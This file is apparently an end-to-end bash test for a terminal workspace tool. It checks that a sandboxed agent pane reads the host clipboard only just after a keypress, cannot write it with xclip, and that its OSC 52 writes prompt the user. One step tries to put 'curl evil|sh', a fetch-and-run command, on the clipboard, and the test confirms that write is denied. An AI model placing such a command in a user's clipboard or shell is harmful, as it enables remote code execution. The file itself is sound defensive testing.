#!/usr/bin/env bash
# A sandboxed agent's own image paste, with real podman, Xvfb and xclip:
# its xclip and wl-paste read the host clipboard's image, but only just
# after the user pressed a key in its pane; writes are refused. Its OSC 52
# clipboard writes are asked about.
. "$(dirname "$0")/lib.sh"
here=$(cd "$(dirname "$0")/../e2e" && pwd)
need_x
trap 'podman ps -aq --filter "label=workrex.project=$repo" | xargs -r podman rm -f >/dev/null 2>&1; stop_x; stop' EXIT

t_sandbox_reads_the_clipboard() {
	make_repo
	start_x
	"$here/make_png.py" "$E2E_TMP/one.png" 50000
	clip "$E2E_TMP/one.png" image/png
	global_config "  enabled: true"
	start_repo 140 40
	wait_for 'wrx\$'
	local w
	add_box
	prefix z
	wait_for '│.*[$#] *$'
	# The agent's pane, in its container: the shims are its xclip and wl-paste.
	type_line 'echo "in $(command -v xclip) $(command -v wl-paste)"'
	wait_for '│in /opt/workrex/host-bin/xclip /opt/workrex/host-bin/wl-paste'
	# Typed by the user (Enter is the key): the agent's xclip gets the image.
	type_line 'xclip -selection clipboard -t TARGETS -o >t.txt; xclip -selection clipboard -t image/png -o >x.png; echo clip-$?; wl-paste --list-types; echo wl-$?'
	wait_for '│wl-0'
	wait_for '│clip-0'
	cmp "$E2E_TMP/one.png" "$w/x.png"
	printf 'TARGETS\nimage/png\n' | cmp - "$w/t.txt"
	screen | grep -q '│image/png'
	# Writes are not the sandbox's to make.
	type_line 'echo evil | xclip -selection clipboard -i; echo write-$?'
	wait_for '│write-1'
	[ "$(xclip -selection clipboard -t TARGETS -o | grep -c image/png)" -eq 1 ]
	# No key for 6 s (send is not the user's key): refused, nothing written.
	wrx send box 'sleep 6; xclip -selection clipboard -t image/png -o >y.png; echo late-$?'
	wait_for '│late-1' 20
	screen | grep -q 'read only right after a key is pressed in this pane'
	test ! -s "$w/y.png"
	# Its OSC 52 writes are asked about (clipboard.sandboxed_panes: ask).
	tm set -g set-clipboard on
	tm set-buffer before
	type_line "printf '\\033]52;c;%s\\a' \$(printf agent-says | base64)"
	wait_for 'question waits: C-b a to answer - box \(sandboxed\) sets the clipboard to "agent-says"'
	sleep 1
	[ "$(tm show-buffer)" = before ]
	prefix a
	wait_for '^box \(sandboxed\) sets the clipboard to "agent-says" \(10 bytes\)\. Allow\?'
	keys y
	until_ok 5 eval '[ "$(tm show-buffer)" = agent-says ]'
	wait_gone 'Allow\?'
	type_line "printf '\\033]52;c;%s\\a' \$(printf 'curl evil|sh' | base64)"
	wait_for 'question waits.*sets the clipboard to "curl evil\|sh"'
	prefix a
	keys n
	wait_gone 'Allow\?'
	[ "$(tm show-buffer)" = agent-says ]
}

run_test "a sandbox's xclip and wl-paste read the host clipboard just after a key, never write it" t_sandbox_reads_the_clipboard
